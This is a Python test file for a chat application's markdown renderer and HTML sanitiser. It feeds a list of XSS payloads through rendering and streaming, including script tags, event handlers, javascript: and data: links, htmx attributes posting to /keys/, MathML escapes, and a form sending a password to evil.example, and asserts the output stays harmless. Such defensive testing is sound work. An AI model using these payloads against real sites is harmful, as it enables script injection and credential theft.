"""Nothing that a model writes becomes an element, an attribute or an address that is not on the list."""

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from chat.markdown import render
from chat.markdown.maths import formula
from chat.markdown.ops import op_markup
from chat.markdown.sanitise import MATHML_ATTRIBUTES, MATHML_TAGS, TOKEN_CLASSES, sanitise
from chat.markdown.stream import BlockStream
from tests.markdown.dom import Element, body
from tests.markdown.samples import chunk_sizes, chunks, markdown

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><use href='data:x'/></svg>",
    "<b hx-post=/keys/ hx-trigger=load>x</b>",
    "<div data-hx-get=/keys/ hx-trigger='load'>x</div>",
    "<form action=//evil.example><input name=password><button>Send</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import url(//evil.example)</style>",
    "<p style='background:url(//evil.example)' id=answer-1 class=composer>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/keys/)",
    "[x](https://e.example/ 'a\" onmouseover=\"alert(1)')",
    "[x](<https://e.example/\" onmouseover=\"alert(1)>)",
    "<javascript:alert(1)>",
    "<https://e.example/\"onmouseover=alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![\" onerror=\"alert(1)](https://e.example/a.png)",
    "[a]: javascript:alert(1)\n\n[a]",
    "$\\text{<b hx-post=/keys/ hx-trigger=load>x</b>}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\mbox{</math><script>alert(1)</script>}$$",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "\\[\\style{background:url(//evil.example)}{x}\\]",
    "$\\class{composer}{x} \\id{answer-1}{y}$",
    "$\\color{red\" onclick=\"alert(1)}{x}$",
    "$\\begin{matrix}<script>&</script>\\end{matrix}$",
    "$&lt;script&gt;alert(1)&lt;/script&gt;$",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html\n<script>alert(1)</script>\n</code></pre><script>alert(2)</script>\n```",
    "```\n</code></pre></div><button class=code-copy hx-post=/keys/>Copy</button>\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|:-:|\n| <b onclick=alert(1)> | $\\text{<i>}$ |",
    "# <script>alert(1)</script>",
    "> - <script>alert(1)</script>",
    "\u202e<script>\u202c \u2066evil\u2069",
    "\ufeff<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "\ud800<script>alert(1)</script>",
)  # fmt: skip
BARE = "blockquote br code em h1 h2 h3 h4 h5 h6 hr li p pre s strong table tbody thead tr ul"
ALLOWED: dict[str, set[str]] = {
    **dict.fromkeys(re.findall(r"\w+", BARE), set()),
    "a": {"href", "title", "target", "rel", "class"},
    "button": {"class", "type"},
    "div": {"class"},
    "ol": {"start"},
    "span": {"class"},
    "td": {"class"},
    "th": {"class"},
    **{tag: set(MATHML_ATTRIBUTES) for tag in MATHML_TAGS},
    "math": {"display", *MATHML_ATTRIBUTES},
}  # fmt: skip
CLASSES = TOKEN_CLASSES | {
    *(
        "align-left",
        "align-center",
        "align-right",
        "block",
        "code",
        "code-copy",
        "code-head",
        "code-lang",
        "image-link",
    ),
    *("math-block", "math-source", "plain", "prose-table", "task", "task-done"),
}


def assert_harmless(html: str) -> None:
    for element in body(html).walk()[1:]:
        assert element.tag in ALLOWED, element.tag
        assert set(element.attributes) <= ALLOWED[element.tag], element
        assert set(element.attributes.get("class", "").split()) <= CLASSES
        assert_link_is_harmless(element)


def assert_link_is_harmless(element: Element) -> None:
    if element.tag == "a":
        assert re.match(r"(?i)https?://[^\s]|mailto:[^\s]", element.attributes["href"])
        assert element.attributes["target"] == "_blank"
        assert element.attributes["rel"] == "noreferrer noopener"


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_renders_to_harmless_html(attack: str) -> None:
    assert_harmless(render(attack))


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("size", [1, 5, 1000])
def test_no_op_of_a_streamed_attack_harms(attack: str, size: int) -> None:
    stream = BlockStream()
    for piece in chunks(f"Before.\n\n- item {attack}\n\n{attack}", [size]):
        stream.feed(piece)
        stream.advance()
    stream.finish()

    for op in stream.ops_since(0) or []:
        assert_harmless(op.html)
    assert_harmless(stream.snapshot().html)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(ATTACKS) | markdown, max_size=4).map("".join), chunk_sizes)
@example("$x$<b hx-get=/>", [3])
def test_attacks_among_markdown_stay_harmless(text: str, sizes: list[int]) -> None:
    stream = BlockStream()
    for piece in chunks(text, sizes):
        stream.feed(piece)
        stream.advance()
    stream.finish()

    assert_harmless(stream.snapshot().html)
    assert_harmless(stream.final_html)


def test_each_op_adds_only_the_out_of_band_attribute_to_its_html() -> None:
    stream = BlockStream()
    stream.feed("a <b hx-swap-oob='innerHTML:#keys'>\n\n1. x")
    stream.finish()

    for op in stream.ops_since(0) or []:
        [element] = body(op_markup("answer-1-body", op)).elements
        assert element.attributes["hx-swap-oob"].startswith(f"{op.swap}:#answer-1-body")
        assert not any(name.startswith(("hx-", "data-")) for inner in element.walk()[1:] for name in inner.attributes)


def test_a_formula_cannot_carry_html_even_before_the_sanitiser() -> None:
    html = formula(r"\text{<button class=code-copy>x</button>}", display=False)

    assert {element.tag for element in body(html).walk()[1:]} == {"math", "mrow", "mtext"}


def test_the_sanitiser_alone_stops_what_a_faulty_renderer_would_let_through() -> None:
    html = sanitise(
        '<p id="a" style="x" hx-get="/" data-x="1" class="composer" onclick="x">t</p><script>x</script>'
        '<math href="javascript:x"><mi href="//e">y</mi></math><a href="javascript:x">z</a>'
        '<a href="/keys/">w</a><img src="//e">'
    )

    bare = 'target="_blank" rel="noreferrer noopener"'
    assert html == f"<p>t</p><math><mi>y</mi></math><a {bare}>z</a><a {bare}>w</a>"


def test_hidden_and_reversing_characters_are_shown_and_not_obeyed() -> None:
    assert render("a\u202eb\x00c\ud800d\u2066e") == '<div class="block"><p>a�b�c�d�e</p></div>'
